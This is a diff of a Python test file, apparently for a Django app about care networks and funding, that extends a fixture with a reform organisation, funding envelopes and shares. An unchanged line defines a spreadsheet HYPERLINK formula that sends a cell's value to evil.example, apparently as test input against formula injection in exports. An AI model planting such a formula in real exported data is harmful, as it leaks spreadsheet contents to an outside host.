@@ -18,11 +18,11 @@ from missions.models import (
     MissionTask,
     SextupleAim,
 )
-from networks.models import Municipality, PrimaryCareZone
+from networks.models import Municipality, PrimaryCareZone, ReformOrganisation
 from tests.missions.factories import PartnerTypeFactory, make_themes
 from tests.networks import factories as geo
 from tests.transition.factories import ActionLineFactory, FundingFactory
-from transition.models import FundingKind
+from transition.models import FundingFigure, FundingKind
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'
 
@@ -92,4 +92,20 @@ def every_table(network_a):
     geo.recognition_day_row()
     FundingFactory(network=network_a, note="")
     FundingFactory(network=None, legacy_organisation=pn, kind=FundingKind.FORFAIT, amount=Decimal("1234.56"))
+    consortium = ReformOrganisation.objects.create(
+        code="consortium", name="Consortium", role="CONSORTIUM", active_from="2025-01", certainty="FIXED"
+    )
+    envelope = FundingFigure.objects.create(
+        code="extra",
+        kind="ENVELOPE",
+        title="Extra",
+        amount=Decimal("5000000"),
+        year_from=2024,
+        recurrent=True,
+    )
+    share = FundingFigure.objects.create(
+        code="extra-mbe", kind="SHARE", title="MBE", part_of=envelope, year_from=2024, intended_kind="MBE"
+    )
+    FundingFactory(network=None, organisation=consortium, drawn_from=envelope, year=2024, amount=Decimal("5"))
+    FundingFactory(network=None, legacy_organisation=mbe, drawn_from=share, year=2024, amount=Decimal("7"))
     return {"kempen": kempen, "mol": mol, "pn": pn, "mbe": mbe}
